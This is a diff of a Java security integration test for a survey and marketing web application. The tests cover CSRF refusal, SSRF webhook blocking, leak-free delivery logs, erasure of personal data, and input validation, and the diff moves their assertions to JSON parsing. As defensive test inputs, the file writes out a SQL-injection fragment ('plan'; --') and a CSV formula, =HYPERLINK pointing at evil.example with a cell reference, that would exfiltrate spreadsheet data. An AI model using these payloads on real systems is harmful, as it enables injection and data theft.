@@ -6,6 +6,7 @@ import static org.junit.jupiter.api.Assertions.assertNull;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import com.icegreen.greenmail.junit5.GreenMailExtension;
+import jakarta.json.JsonObject;
 import java.io.ByteArrayInputStream;
 import java.net.URL;
 import java.net.http.HttpClient;
@@ -89,8 +90,7 @@ class SecurityIT extends OnSharedApplication {
                 + ",\"quoteIds\":[]}");
         assertEquals(201, draft.statusCode(), draft.body());
         String publication = AudienceApi.id(draft);
-        Matcher slug = Pattern.compile("\"slug\":\"([^\"]+)\"").matcher(draft.body());
-        assertTrue(slug.find(), draft.body());
+        String slug = Json.string(Json.object(draft), "slug");
         HttpResponse<String> published = executiveKey.sendJson("POST", "api/publications/" + publication + "/publish", "");
         assertEquals(200, published.statusCode(), published.body());
 
@@ -105,18 +105,19 @@ class SecurityIT extends OnSharedApplication {
         for (HttpResponse<String> answer : refused) {
             assertEquals(403, answer.statusCode(), answer.uri() + ": " + answer.body());
             assertTrue(answer.headers().firstValue("Content-Type").orElse("").startsWith("application/json"));
-            assertTrue(answer.body().contains("\"status\":403") && answer.body().contains("\"error\":\"Forbidden\"")
-                    && answer.body().contains("Cross-site request refused"), answer.body());
+            JsonObject refusal = Json.object(answer);
+            assertEquals(List.of(403L, "Forbidden"), List.of(Json.number(refusal, "status"), Json.string(refusal, "error")), answer.body());
+            assertTrue(Json.string(refusal, "message").contains("Cross-site request refused"), answer.body());
         }
         HttpResponse<String> inFrench = victim.withHeader("Accept-Language", "fr")
                 .sendJson("POST", "api/campaigns/" + campaign + "/cancel", "");
         assertEquals(403, inFrench.statusCode());
-        assertTrue(inFrench.body().contains("Requête d'un autre site refusée"), inFrench.body());
+        assertTrue(Json.string(Json.object(inFrench), "message").contains("Requête d'un autre site refusée"), inFrench.body());
 
-        assertFalse(api.get("api/imports").body().contains(run + ".csv"), "no import started");
-        assertFalse(api.get("api/contacts/" + contact).body().contains("2026-11-20"), "no event stored");
-        assertTrue(api.get("api/campaigns/" + campaign).body().contains("\"status\":\"SCHEDULED\""), "still scheduled");
-        assertEquals(200, new WebClient(base).get("p/" + slug.group(1)).statusCode(), "still public");
+        assertFalse(Json.texts(Json.array(api.get("api/imports").body()), "", "fileName").contains(run + ".csv"), "no import started");
+        assertEquals(List.of(), Json.objects(Json.object(api.get("api/contacts/" + contact).body()), "events"), "no event stored");
+        assertEquals("SCHEDULED", CampaignApi.status(api.get("api/campaigns/" + campaign).body()), "still scheduled");
+        assertEquals(200, new WebClient(base).get("p/" + slug).statusCode(), "still public");
 
         // The same calls with an API key, from the same foreign origin: another system's, not a browser's.
         api.withHeader("Origin", EVIL);
@@ -126,12 +127,14 @@ class SecurityIT extends OnSharedApplication {
         assertEquals(202, imported.statusCode(), imported.body());
         HttpResponse<String> events = api.send("POST", "api/events/import", "text/csv", bytes(eventsCsv));
         assertEquals(200, events.statusCode(), events.body());
-        assertTrue(events.body().contains("\"created\":1"), events.body());
-        assertTrue(api.get("api/contacts/" + contact).body().contains("2026-11-20"), "the event is stored");
+        assertEquals(1, Json.number(Json.object(events), "created"), events.body());
+        String stored = api.get("api/contacts/" + contact).body();
+        assertEquals(List.of("PURCHASE"), Json.texts(Json.object(stored), "events", "type"), "the event is stored: " + stored);
+        assertTrue(Json.string(Json.object(stored), "events.0.occurredAt").startsWith("2026-11-20"), stored);
         assertEquals(200, api.sendJson("POST", "api/campaigns/" + campaign + "/cancel", "").statusCode());
         assertEquals(200, executiveKey.sendJson("POST", "api/publications/" + publication + "/revoke", "").statusCode());
-        assertTrue(api.get("api/campaigns/" + campaign).body().contains("\"status\":\"CANCELLED\""));
-        assertEquals(410, new WebClient(base).get("p/" + slug.group(1)).statusCode());
+        assertEquals("CANCELLED", CampaignApi.status(api.get("api/campaigns/" + campaign).body()));
+        assertEquals(410, new WebClient(base).get("p/" + slug).statusCode());
     }
 
     @Test
@@ -343,8 +346,7 @@ class SecurityIT extends OnSharedApplication {
             java.net.http.HttpResponse<String> refused = admin.sendJson("PUT", "api/webhook",
                     "{\"url\":\"" + url + "\",\"enabled\":true}");
             org.junit.jupiter.api.Assertions.assertEquals(400, refused.statusCode(), url + ": " + refused.body());
-            org.junit.jupiter.api.Assertions.assertTrue(refused.body().contains("\"field\":\"url\"")
-                    && refused.body().contains(reason), url + ": " + refused.body());
+            org.junit.jupiter.api.Assertions.assertTrue(Json.refusal(refused, "url").contains(reason), url + ": " + refused.body());
         });
         org.junit.jupiter.api.Assertions.assertEquals(before, admin.get("api/webhook").body(), "nothing stored");
 
@@ -352,7 +354,7 @@ class SecurityIT extends OnSharedApplication {
         WebClient french = new WebClient(base).withHeader("Accept-Language", "fr");
         french.login(Deployments.adminUsername(), Deployments.adminPassword());
         java.net.http.HttpResponse<String> refused = french.sendJson("PUT", "api/webhook", "{\"url\":\"http://localhost/\",\"enabled\":true}");
-        org.junit.jupiter.api.Assertions.assertTrue(refused.statusCode() == 400 && refused.body().contains("adresse de bouclage"),
+        org.junit.jupiter.api.Assertions.assertTrue(refused.statusCode() == 400 && Json.refusal(refused, "url").contains("adresse de bouclage"),
                 refused.body());
     }
 
@@ -364,6 +366,8 @@ class SecurityIT extends OnSharedApplication {
     void aFailedDeliveryShowsItsStatusCodeNeverTheReceiversBody() throws Exception {
         String run = Deployments.unique("ssrf");
         String leaked = "AKIA" + run.replaceAll("[^A-Za-z0-9]", "").toUpperCase() + " password=hunter2";
+        // Ours: the deliveries about the response of this test's contact (known before the response is written, so
+        // that even its first delivery is recognised), by the parsed response.contactId.
         java.util.concurrent.atomic.AtomicLong ours = new java.util.concurrent.atomic.AtomicLong(-1);
         java.util.concurrent.atomic.AtomicInteger refusedDeliveries = new java.util.concurrent.atomic.AtomicInteger();
         com.sun.net.httpserver.HttpServer receiver = com.sun.net.httpserver.HttpServer.create(
@@ -371,7 +375,7 @@ class SecurityIT extends OnSharedApplication {
         receiver.createContext("/hook", exchange -> {
             String body = new String(exchange.getRequestBody().readAllBytes(), java.nio.charset.StandardCharsets.UTF_8);
             // Other tests' responses on the shared database may arrive too: they are accepted.
-            boolean mine = ours.get() > 0 && body.contains("\"response\":{\"id\":" + ours.get() + ",");
+            boolean mine = ours.get() > 0 && ours.get() == contactOf(body);
             if (mine) {
                 refusedDeliveries.incrementAndGet();
             }
@@ -385,30 +389,29 @@ class SecurityIT extends OnSharedApplication {
         admin.login(Deployments.adminUsername(), Deployments.adminPassword());
         WebClient marketer = AudienceApi.marketer(base);
         String contact = null;
+        Webhooks.Found found = null;
         try {
-            java.net.http.HttpResponse<String> enabled = admin.sendJson("PUT", "api/webhook", "{\"url\":\"http://127.0.0.1:"
-                    + receiver.getAddress().getPort() + "/hook/" + run + "\",\"enabled\":true}");
-            org.junit.jupiter.api.Assertions.assertEquals(200, enabled.statusCode(), enabled.body());
+            found = Webhooks.pointAt(admin, "http://127.0.0.1:" + receiver.getAddress().getPort() + "/hook/" + run, false);
             contact = AudienceApi.id(marketer.sendJson("POST", "api/contacts", "{\"email\":\"" + run + "@exemple.fr\",\"language\":\"FR\"}"));
+            ours.set(Long.parseLong(contact));
             java.net.http.HttpResponse<String> entered = marketer.sendJson("POST", "api/responses",
                     "{\"contactId\":" + contact + ",\"score\":3,\"channel\":\"PHONE\",\"respondedAt\":\"" + java.time.Instant.now() + "\"}");
             org.junit.jupiter.api.Assertions.assertEquals(201, entered.statusCode(), entered.body());
-            ours.set(Long.parseLong(AudienceApi.id(entered)));
+            String response = AudienceApi.id(entered);
 
-            // Wait until our delivery has been refused and logged as such.
-            java.util.regex.Pattern ourEntry = java.util.regex.Pattern.compile("\\{[^{}]*\"responseId\":" + ours.get() + ",[^{}]*\\}");
-            String log = "";
-            String entry = "";
+            // Wait until our delivery has been refused and logged as such (the log holds other tests' deliveries too).
+            String log = "[]";
+            java.util.List<JsonObject> entry = java.util.List.of();
             long end = System.nanoTime() + java.time.Duration.ofSeconds(60).toNanos();
-            while (!entry.contains("\"lastStatus\":500") && System.nanoTime() < end) {
+            while ((entry.isEmpty() || !Json.has(entry.get(0), "lastStatus")) && System.nanoTime() < end) {
                 Thread.sleep(250);
-                log = admin.get("api/webhook/deliveries?size=200").body();
-                java.util.regex.Matcher m = ourEntry.matcher(log);
-                entry = m.find() ? m.group() : "";
+                log = admin.get("api/webhook/deliveries?size=1000").body();
+                entry = Json.where(Json.array(log), "", "responseId", response);
             }
             org.junit.jupiter.api.Assertions.assertTrue(refusedDeliveries.get() > 0, "the receiver refused our delivery");
-            org.junit.jupiter.api.Assertions.assertTrue(entry.contains("\"lastStatus\":500") && entry.contains("\"lastError\":\"HTTP 500\""),
-                    "the status code is shown: " + log);
+            org.junit.jupiter.api.Assertions.assertEquals(1, entry.size(), "one delivery of our response: " + log);
+            org.junit.jupiter.api.Assertions.assertEquals(java.util.List.of(500L, "HTTP 500"), java.util.List.of(
+                    Json.number(entry.get(0), "lastStatus"), Json.string(entry.get(0), "lastError")), "the status code is shown: " + log);
             org.junit.jupiter.api.Assertions.assertFalse(log.contains("hunter2") || log.contains(leaked.substring(0, 12)),
                     "the receiver's answer is not shown: " + log);
             String page = admin.get("admin/settings.xhtml").body();
@@ -416,8 +419,11 @@ class SecurityIT extends OnSharedApplication {
             org.junit.jupiter.api.Assertions.assertFalse(page.contains("hunter2") || page.contains(leaked.substring(0, 12)),
                     "the settings page does not show the receiver's answer");
         } finally {
-            // Off again, so that later tests send nothing to a receiver that is gone; our contact erased with its answer.
-            admin.sendJson("PUT", "api/webhook", "{\"enabled\":false}");
+            // Off again, so that later tests send nothing to a receiver that is gone, then as found; our contact
+            // erased with its answer.
+            if (found != null) {
+                found.putBack();
+            }
             receiver.stop(0);
             if (contact != null) {
                 marketer.sendJson("DELETE", "api/contacts/" + contact, "");
@@ -460,9 +466,9 @@ class SecurityIT extends OnSharedApplication {
         admin.login(Deployments.adminUsername(), Deployments.adminPassword());
         WebClient marketer = AudienceApi.marketer(base);
         String campaign = null;
+        Webhooks.Found found = null;
         try {
-            org.junit.jupiter.api.Assertions.assertEquals(200, admin.sendJson("PUT", "api/webhook", "{\"url\":\"http://127.0.0.1:"
-                    + receiver.getAddress().getPort() + "/hook/" + run + "\",\"enabled\":true}").statusCode());
+            found = Webhooks.pointAt(admin, "http://127.0.0.1:" + receiver.getAddress().getPort() + "/hook/" + run, false);
             String contact = AudienceApi.id(marketer.sendJson("POST", "api/contacts", "{\"email\":\"" + email + "\",\"firstName\":\""
                     + firstName + "\",\"lastName\":\"" + lastName + "\",\"language\":\"EN\"}"));
             String list = AudienceApi.id(marketer.sendJson("POST", "api/lists", "{\"name\":\"" + run + "\"}"));
@@ -522,13 +528,9 @@ class SecurityIT extends OnSharedApplication {
                     ("email;firstName;lastName;language\r\n" + run + "-ok@exemple.fr;Ok;Fine;EN\r\n" + email + ";" + firstName + ";"
                             + lastName + ";EN;surplus\r\n").getBytes(java.nio.charset.StandardCharsets.UTF_8));
             org.junit.jupiter.api.Assertions.assertEquals(202, imported.statusCode(), imported.body());
-            String job = AudienceApi.id(imported);
-            String status = "";
-            for (int i = 0; i < 120 && !status.contains("\"status\":\"DONE\"") && !status.contains("FAILED"); i++) {
-                Thread.sleep(250);
-                status = marketer.get("api/imports/" + job).body();
-            }
-            org.junit.jupiter.api.Assertions.assertTrue(status.contains("\"rejected\":1"), status);
+            String status = finishedImport(marketer, imported);
+            org.junit.jupiter.api.Assertions.assertEquals(java.util.List.of("DONE", 1L, 1L), java.util.List.of(Json.string(Json.object(status),
+                    "status"), Json.number(Json.object(status), "imported"), Json.number(Json.object(status), "rejected")), status);
             org.junit.jupiter.api.Assertions.assertFalse(Respondents.rows("SELECT 1 FROM import_rejection WHERE raw_line LIKE ?",
                     "%" + email + "%").isEmpty(), "the rejected line quotes the address");
 
@@ -547,7 +549,8 @@ class SecurityIT extends OnSharedApplication {
                     "Customer: " + firstName + " " + lastName + " <" + email + ">\n" + word);
 
             // The webhook carried the person's data before the erasure.
-            awaitHook(hookBodies, b -> b.contains(email) && b.contains(word), "a response event with the address and comment");
+            awaitHook(hookBodies, b -> email.equals(eventField(b, "response.contactEmail"))
+                    && String.valueOf(eventField(b, "response.comment")).contains(word), "a response event with the address and comment");
 
             // Unsubscribed, with a note naming the person.
             org.junit.jupiter.api.Assertions.assertEquals(201, marketer.sendJson("POST", "api/suppressions", "{\"email\":\"" + email
@@ -558,12 +561,17 @@ class SecurityIT extends OnSharedApplication {
             java.util.List<String> hits = textColumnsHolding(java.util.List.of(email, lastName.toLowerCase(java.util.Locale.ROOT), word));
             org.junit.jupiter.api.Assertions.assertEquals(java.util.List.of(), hits, "table.column still holding the person's data");
 
-            String erased = awaitHook(hookBodies, b -> b.contains("\"type\":\"contact.erased\"")
-                    && b.contains("\"contact\":{\"id\":" + contact + "}"), "the contact.erased event");
+            String erased = awaitHook(hookBodies, b -> "contact.erased".equals(eventField(b, "type"))
+                    && contact.equals(eventField(b, "contact.id")), "the contact.erased event");
+            // The contact's id alone: no other member in the event, nor in its contact.
+            org.junit.jupiter.api.Assertions.assertEquals(java.util.Set.of("id", "type", "createdAt", "contact"),
+                    Json.object(erased).keySet(), erased);
+            org.junit.jupiter.api.Assertions.assertEquals(java.util.Set.of("id"), Json.object(erased).getJsonObject("contact").keySet(), erased);
             org.junit.jupiter.api.Assertions.assertFalse(erased.contains(email) || erased.contains(lastName) || erased.contains(firstName)
                     || erased.contains(word), erased);
-            org.junit.jupiter.api.Assertions.assertTrue(executive.get("api/publications/" + publication + "/versions").body()
-                    .contains("\"number\":1"), "the publication's history stays, without the quote");
+            String versions = executive.get("api/publications/" + publication + "/versions").body();
+            org.junit.jupiter.api.Assertions.assertEquals(java.util.List.of("1"), Json.texts(Json.array(versions), "", "number"),
+                    "the publication's history stays, without the quote: " + versions);
 
             // The suppression still holds when the address comes back.
             org.junit.jupiter.api.Assertions.assertEquals(200, marketer.sendJson("POST", "api/contacts/bulk",
@@ -571,7 +579,9 @@ class SecurityIT extends OnSharedApplication {
             org.junit.jupiter.api.Assertions.assertEquals("UNSUBSCRIBED", Respondents.rows("SELECT status FROM contact WHERE email = ?",
                     email).get(0).get("status"), "re-imported after the erasure, still unsubscribed");
         } finally {
-            admin.sendJson("PUT", "api/webhook", "{\"enabled\":false}");
+            if (found != null) {
+                found.putBack();
+            }
             receiver.stop(0);
             if (campaign != null) {
                 CampaignApi.cancelUnlessDone(marketer, campaign);
@@ -580,9 +590,23 @@ class SecurityIT extends OnSharedApplication {
     }
 
     private static String secretOf(String issuedKey) {
-        java.util.regex.Matcher m = java.util.regex.Pattern.compile("\"secret\":\"([^\"]+)\"").matcher(issuedKey);
-        org.junit.jupiter.api.Assertions.assertTrue(m.find(), issuedKey);
-        return m.group(1);
+        return Json.string(Json.object(issuedKey), "secret");
+    }
+
+    /** A field of a webhook event's body as text (numbers as written), or null when absent or not JSON. */
+    private static String eventField(String body, String path) {
+        try {
+            JsonObject event = Json.object(body);
+            return Json.has(event, path) && !Json.isNull(event, path) ? Json.text(event, path) : null;
+        } catch (AssertionError notJson) {
+            return null;
+        }
+    }
+
+    /** The contactId of the response a webhook event is about, or -1. */
+    private static long contactOf(String body) {
+        String contact = eventField(body, "response.contactId");
+        return contact == null ? -1 : Long.parseLong(contact);
     }
 
     private static String awaitHook(java.util.List<String> bodies, java.util.function.Predicate<String> which, String what)
@@ -652,7 +676,7 @@ class SecurityIT extends OnSharedApplication {
         String survey = CampaignApi.survey(marketer, run);
         HttpResponse<String> asks = marketer.sendJson("PUT", "api/surveys/" + survey, "{\"askQuoteConsent\":true}");
         assertEquals(200, asks.statusCode(), asks.body());
-        assertTrue(asks.body().contains("\"askQuoteConsent\":true"), asks.body());
+        assertTrue(Json.bool(Json.object(asks), "askQuoteConsent"), asks.body());
         HttpResponse<String> journey = marketer.sendJson("POST", "api/campaigns", "{\"name\":\"" + run + "\",\"surveyId\":" + survey
                 + ",\"kind\":\"JOURNEY\",\"triggerEvent\":\"MASK_" + suffix.toUpperCase(Locale.ROOT) + "\",\"triggerDelayDays\":7}");
         assertEquals(201, journey.statusCode(), journey.body());
@@ -680,7 +704,7 @@ class SecurityIT extends OnSharedApplication {
                 "the editor lists the masked text: " + candidates);
         HttpResponse<String> refused = executive.sendJson("POST", "api/publications", String.format(draft, "[" + r1 + "," + r3 + "]", "[]"));
         assertEquals(400, refused.statusCode(), refused.body());
-        assertTrue(refused.body().contains("Response " + r3 + ": its author did not agree to be quoted"), refused.body());
+        assertTrue(Json.refusal(refused, "quoteIds").contains("Response " + r3 + ": its author did not agree to be quoted"), refused.body());
 
         // The executive edits the second quote's wording, trying to put personal data back in.
         String edited = "Service rapide, \u00e9crivez-moi : anais.nobecourt@exemple.fr, 0612345678, www.exemple.fr, Gaspard " + otherLast
@@ -689,14 +713,13 @@ class SecurityIT extends OnSharedApplication {
                 "[{\"responseId\":" + r2 + ",\"wording\":\"" + edited + "\"}]"));
         assertEquals(201, created.statusCode(), created.body());
         String id = AudienceApi.id(created);
-        assertTrue(created.body().contains("Service rapide, \u00e9crivez-moi : [\u2026], [\u2026], [\u2026], [\u2026] et [\u2026] " + suffix),
+        assertEquals("Service rapide, \u00e9crivez-moi : [\u2026], [\u2026], [\u2026], [\u2026] et [\u2026] " + suffix,
+                Json.string(Json.only(Json.object(created), "quoteWordings", "responseId", r2), "wording"),
                 "the wording is stored masked: " + created.body());
         HttpResponse<String> published = executive.sendJson("POST", "api/publications/" + id + "/publish", "");
         assertEquals(200, published.statusCode(), published.body());
-        Matcher slug = Pattern.compile("\"slug\":\"([^\"]+)\"").matcher(published.body());
-        assertTrue(slug.find(), published.body());
-
-        String html = new WebClient(base).get("p/" + slug.group(1)).body();
+        assertEquals("PUBLISHED", Json.string(Json.object(published), "status"), published.body());
+        String html = new WebClient(base).get("p/" + Json.string(Json.object(published), "slug")).body();
         assertTrue(html.contains("\u00c9crivez \u00e0 [\u2026] ou au [\u2026], sign\u00e9 [\u2026]. Note 9/10 le 12/03, 129,90 \u20ac, 2 fois " + suffix),
                 "the first quote, masked, its scores, dates and prices intact: " + html);
         assertTrue(html.contains("Service rapide, \u00e9crivez-moi : [\u2026]"), "the edited wording is published: " + html);
@@ -816,7 +839,7 @@ class SecurityIT extends OnSharedApplication {
         HttpResponse<String> longComment = api.sendJson("POST", "api/responses", "{\"email\":\"" + run + "@exemple.fr\",\"score\":9,"
                 + "\"comment\":\"" + "x".repeat(2001) + "\",\"respondedAt\":\"2026-01-05T10:00:00Z\"}");
         assertEquals(400, longComment.statusCode(), longComment.body());
-        assertTrue(longComment.body().contains("\"field\":\"comment\""), longComment.body());
+        assertEquals(List.of("comment"), Json.refusedFields(longComment), longComment.body());
     }
 
     /** A raw request declaring a body it does not send: the filter answers from the Content-Length alone. */
@@ -849,7 +872,10 @@ class SecurityIT extends OnSharedApplication {
         assertTrue(page.contains("Envoi trop volumineux"), "the friendly page, in the visitor's language: " + page);
         String json = declaringHugeBody("api/contacts", "application/json");
         assertTrue(json.startsWith("HTTP/1.1 413"), json);
-        assertTrue(json.contains("\"status\":413"), json);
+        // The body of the raw answer, past its headers (and any chunk size line): the API's JSON error.
+        String body = json.substring(json.indexOf("\r\n\r\n") + 4);
+        assertTrue(body.indexOf('{') >= 0, json);
+        assertEquals(413, Json.number(Json.object(body.substring(body.indexOf('{'), body.lastIndexOf('}') + 1)), "status"), json);
 
     }
 
@@ -858,24 +884,24 @@ class SecurityIT extends OnSharedApplication {
         WebClient api = AudienceApi.marketer(base);
         HttpResponse<String> dimension = api.get("api/reports/breakdown?dimension=COLOUR");
         assertEquals(400, dimension.statusCode(), dimension.body());
-        assertTrue(dimension.body().contains("\"field\":\"dimension\""), dimension.body());
+        assertEquals(List.of("dimension"), Json.refusedFields(dimension), dimension.body());
         HttpResponse<String> malformed = api.get("api/reports/dashboard?attribute=" + form("plan'; --") + "&value=x");
         assertEquals(400, malformed.statusCode(), malformed.body());
-        assertTrue(malformed.body().contains("\"field\":\"attribute\""), malformed.body());
+        assertEquals(List.of("attribute"), Json.refusedFields(malformed), malformed.body());
         HttpResponse<String> unknown = api.get("api/reports/dashboard?attribute=" + Deployments.unique("nothing").replace('-', '_')
                 + "&value=x");
         assertEquals(400, unknown.statusCode(), unknown.body());
-        assertTrue(unknown.body().contains("\"field\":\"attribute\""), unknown.body());
+        assertEquals(List.of("attribute"), Json.refusedFields(unknown), unknown.body());
         HttpResponse<String> by = api.get("api/reports/breakdown?dimension=ATTRIBUTE&by=no_such_attribute_at_all");
         assertEquals(400, by.statusCode(), by.body());
-        assertTrue(by.body().contains("\"field\":\"by\""), by.body());
+        assertEquals(List.of("by"), Json.refusedFields(by), by.body());
     }
 
     /** The status of a started CSV import once it has finished (or after 20 s). */
     private static String finishedImport(WebClient api, HttpResponse<String> started) throws InterruptedException {
         assertEquals(202, started.statusCode(), started.body());
-        String status = "";
-        for (int i = 0; i < 80 && !status.contains("\"status\":\"DONE\"") && !status.contains("FAILED"); i++) {
+        String status = started.body();
+        for (int i = 0; i < 80 && !List.of("DONE", "FAILED").contains(Json.string(Json.object(status), "status")); i++) {
             Thread.sleep(250);
             status = api.get("api/imports/" + AudienceApi.id(started)).body();
         }
@@ -892,8 +918,8 @@ class SecurityIT extends OnSharedApplication {
         HttpResponse<String> refused = api.sendJson("POST", "api/contacts", "{\"email\":\"" + run + "-b@exemple.fr\",\"attributes\":{\""
                 + attribute + "\":\"31/02/2025\"}}");
         assertEquals(400, refused.statusCode(), refused.body());
-        assertTrue(refused.body().contains("\"field\":\"attributes." + attribute + "\""), refused.body());
-        assertTrue(api.get("api/contacts?q=" + run + "-b").body().contains("\"total\":0"), "not stored as 28 February");
+        assertEquals(List.of("attributes." + attribute), Json.refusedFields(refused), refused.body());
+        assertEquals(0, Json.number(Json.object(api.get("api/contacts?q=" + run + "-b").body()), "total"), "not stored as 28 February");
 
         String csv = "email;" + attribute + "\r\n" + run + "-c@exemple.fr;28/02/2025\r\n" + run + "-d@exemple.fr;31/02/2025\r\n";
         String mapping = "{\"email\":0,\"attributes\":[{\"column\":1,\"name\":\"" + attribute + "\",\"type\":\"DATE\"}]}";
@@ -901,7 +927,8 @@ class SecurityIT extends OnSharedApplication {
                 csv.getBytes(java.nio.charset.StandardCharsets.UTF_8));
         String jobId = AudienceApi.id(started);
         String status = finishedImport(api, started);
-        assertTrue(status.contains("\"imported\":1") && status.contains("\"rejected\":1"), status);
+        assertEquals(List.of("DONE", 1L, 1L), List.of(Json.string(Json.object(status), "status"), Json.number(Json.object(status), "imported"),
+                Json.number(Json.object(status), "rejected")), status);
         String report = api.get("api/imports/" + jobId + "/report").body();
         assertTrue(report.contains("3;" + attribute + ": not a date"), report);
     }
@@ -914,9 +941,10 @@ class SecurityIT extends OnSharedApplication {
         api.sendJson("POST", "api/contacts", "{\"email\":\"" + run + "-b@exemple.fr\",\"lastName\":\"" + run + " 500 off\"}");
         api.sendJson("POST", "api/contacts", "{\"email\":\"" + run + "-c@exemple.fr\",\"lastName\":\"" + run + " 5X0 off\"}");
         String percent = api.get("api/contacts?q=" + form(run + " 50%")).body();
-        assertTrue(percent.contains("\"total\":1") && percent.contains(run + "-a@"), percent);
+        assertEquals(1, Json.number(Json.object(percent), "total"), percent);
+        assertEquals(List.of(run + "-a@exemple.fr"), Json.texts(Json.object(percent), "rows", "email"), percent);
         String underscore = api.get("api/contacts?q=" + form(run + " 5_0")).body();
-        assertTrue(underscore.contains("\"total\":0"), underscore);
+        assertEquals(0, Json.number(Json.object(underscore), "total"), underscore);
     }
 
     @Test
@@ -934,9 +962,12 @@ class SecurityIT extends OnSharedApplication {
         HttpResponse<String> started = api.send("POST", "api/imports?fileName=export.csv", "text/csv",
                 exported.getBytes(java.nio.charset.StandardCharsets.UTF_8));
         String status = finishedImport(api, started);
-        assertTrue(status.contains("\"status\":\"DONE\"") && status.contains("\"rejected\":0"), status);
+        assertEquals(List.of("DONE", 0L), List.of(Json.string(Json.object(status), "status"), Json.number(Json.object(status), "rejected")),
+                status);
         String contact = api.get("api/contacts?q=" + run).body();
-        assertTrue(contact.contains("\"firstName\":\"=HYPERLINK(") && contact.contains("\"lastName\":\"-Dupont\""), contact);
+        JsonObject row = Json.only(Json.object(contact), "rows", "email", run + "@exemple.fr");
+        assertEquals(List.of("=HYPERLINK(\"http://evil.example/?\"&A1;\"x\")", "-Dupont"),
+                List.of(Json.string(row, "firstName"), Json.string(row, "lastName")), "as it was: " + contact);
     }
 
     /**
@@ -996,7 +1027,6 @@ class SecurityIT extends OnSharedApplication {
     // ---------------------------------------------------------------------------------------------
 
 
-    private static final Pattern DOORS_SECRET = Pattern.compile("\"secret\":\"([^\"]+)\"");
 
     @Test
     void metricsAndTheApiDescriptionAreForAdministratorsOnlyAndHealthStaysPublic() {
@@ -1057,7 +1087,8 @@ class SecurityIT extends OnSharedApplication {
         // Declared by Content-Length: refused before reading.
         HttpResponse<String> declared = marketer.send("POST", "api/imports?fileName=" + run + ".csv", "text/csv", tooLarge);
         assertEquals(413, declared.statusCode(), declared.body());
-        assertTrue(declared.body().contains("\"status\":413") && declared.body().contains("limit of " + cap + " bytes"), declared.body());
+        assertEquals(413, Json.number(Json.object(declared), "status"), declared.body());
+        assertTrue(Json.string(Json.object(declared), "message").contains("limit of " + cap + " bytes"), declared.body());
         HttpResponse<String> events = marketer.send("POST", "api/events/import", "text/csv", tooLarge);
         assertEquals(413, events.statusCode(), events.body());
 
@@ -1070,7 +1101,7 @@ class SecurityIT extends OnSharedApplication {
         assertEquals(413, streamed.statusCode(), streamed.body());
 
         assertFalse(marketer.get("api/imports").body().contains(run), "no import job was created");
-        assertTrue(marketer.get("api/contacts?q=" + run).body().contains("\"total\":0"), "no contact was stored");
+        assertEquals(0, Json.number(Json.object(marketer.get("api/contacts?q=" + run).body()), "total"), "no contact was stored");
         // Under the cap the same endpoint works.
         HttpResponse<String> small = marketer.send("POST", "api/imports?fileName=" + run + "-small.csv", "text/csv",
                 ("email\n" + run + "-small@exemple.fr\n").getBytes(StandardCharsets.UTF_8));
@@ -1175,9 +1206,7 @@ class SecurityIT extends OnSharedApplication {
         HttpResponse<String> issued = admin.sendJson("POST", "api/api-keys",
                 "{\"name\":\"" + Deployments.unique("doors") + "\",\"role\":\"" + role + "\"}");
         assertEquals(201, issued.statusCode(), issued.body());
-        Matcher m = DOORS_SECRET.matcher(issued.body());
-        assertTrue(m.find(), issued.body());
-        return m.group(1);
+        return Json.string(Json.object(issued), "secret");
     }
 
 
